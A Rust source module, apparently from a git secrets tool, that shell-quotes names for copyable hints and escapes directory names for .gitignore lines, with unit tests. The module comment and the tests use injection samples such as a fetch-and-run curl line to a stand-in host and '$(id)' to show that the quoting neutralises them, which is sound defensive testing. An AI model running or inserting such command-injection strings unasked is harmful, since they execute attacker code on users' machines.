//! Names put into text the user copies: shell words in hints, patterns in
//! `.gitignore`. A name can come from a file anyone may change in a pull
//! request (a `.gitmodules` submodule name, the dir of a `git+file:` input in
//! `flake.nix`), so it is quoted, never pasted: `x;curl evil.sh|sh;#` must
//! stay one harmless word when a hint is copied into a shell.

use std::borrow::Cow;

/// `s` as one POSIX shell word: unchanged when it has only characters no
/// shell treats specially, else in single quotes (a `'` inside becomes `'\''`).
pub fn shell(s: &str) -> Cow<'_, str> {
    let plain = !s.is_empty()
        && s
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "_-./:@%+=,".contains(c))
        // `=` first would read as an assignment, `-` as an option: quote those.
        && !s.starts_with(['=', '-']);
    if plain {
        Cow::Borrowed(s)
    } else {
        Cow::Owned(format!("'{}'", s.replace('\'', r"'\''")))
    }
}

/// A command line to show (and copy): each word through [`shell`], except
/// that a plain option (`--offline`, `-C`) stays bare, since here it is meant
/// as one. `sh -c 'grep x "$F"'` keeps its quotes.
pub fn command_line<S: AsRef<str>>(words: &[S]) -> String {
    words
        .iter()
        .map(|w| {
            let w = w.as_ref();
            let option = w.len() > 1
                && w.starts_with('-')
                && w.chars()
                    .all(|c| c.is_ascii_alphanumeric() || "_-.=".contains(c));
            if option {
                Cow::Borrowed(w)
            } else {
                shell(w)
            }
        })
        .collect::<Vec<_>>()
        .join(" ")
}

/// The `.gitignore` line that ignores exactly the directory `rel` (relative
/// to the repo root, `/`-separated): `/<rel>/`, with every character git
/// would read as a pattern (`\ * ? [ ]`) escaped with a backslash, so `a[1]`
/// ignores `a[1]` and not `a1`. The line starts with `/` and ends with `/`,
/// so a leading `!`/`#` or trailing spaces of `rel` are not special.
pub fn gitignore_dir(rel: &str) -> String {
    let mut out = String::from("/");
    for c in rel.chars() {
        if matches!(c, '\\' | '*' | '?' | '[' | ']') {
            out.push('\\');
        }
        out.push(c);
    }
    out.push('/');
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn shell_words_stay_one_word() {
        assert_eq!(shell("secrets"), "secrets");
        assert_eq!(shell("a/b-c_d.yaml"), "a/b-c_d.yaml");
        assert_eq!(
            shell("kubeconfig:contexts.0.context.namespace"),
            "kubeconfig:contexts.0.context.namespace"
        );
        assert_eq!(shell("x;curl evil.sh|sh;#"), "'x;curl evil.sh|sh;#'");
        assert_eq!(shell("it's"), r"'it'\''s'");
        assert_eq!(shell(""), "''");
        assert_eq!(shell("-rf"), "'-rf'");
        assert_eq!(shell("$(id)"), "'$(id)'");
        assert_eq!(shell("a b"), "'a b'");
        assert_eq!(shell("a\nb"), "'a\nb'");
    }

    #[test]
    fn shell_quoting_survives_a_real_shell() {
        for s in [
            "x;curl evil.sh|sh;#",
            "it's",
            "$(id) `id` \"q\" \\",
            "-n",
            "a\nb",
        ] {
            let out = std::process::Command::new("sh")
                .arg("-c")
                .arg(format!("printf '%s' {}", shell(s)))
                .output()
                .unwrap();
            assert_eq!(String::from_utf8(out.stdout).unwrap(), s);
        }
    }

    #[test]
    fn command_lines_keep_options_bare_and_quote_the_rest() {
        assert_eq!(
            command_line(&[
                "git",
                "secrets",
                "exec",
                "--file",
                "KUBECONFIG",
                "--",
                "sh",
                "-c",
                "grep current-context \"$KUBECONFIG\""
            ]),
            r#"git secrets exec --file KUBECONFIG -- sh -c 'grep current-context "$KUBECONFIG"'"#
        );
        assert_eq!(
            command_line(&["rotate", "--set-from", "a=-"]),
            "rotate --set-from a=-"
        );
        assert_eq!(command_line(&["-rf;id"]), "'-rf;id'");
    }

    #[test]
    fn gitignore_patterns_match_only_the_dir() {
        assert_eq!(gitignore_dir("secrets"), "/secrets/");
        assert_eq!(gitignore_dir("a[1]*?"), r"/a\[1\]\*\?/");
        assert_eq!(gitignore_dir(r"back\slash"), r"/back\\slash/");
        assert_eq!(gitignore_dir("!neg"), "/!neg/");
        assert_eq!(gitignore_dir("in side "), "/in side /");
    }
}
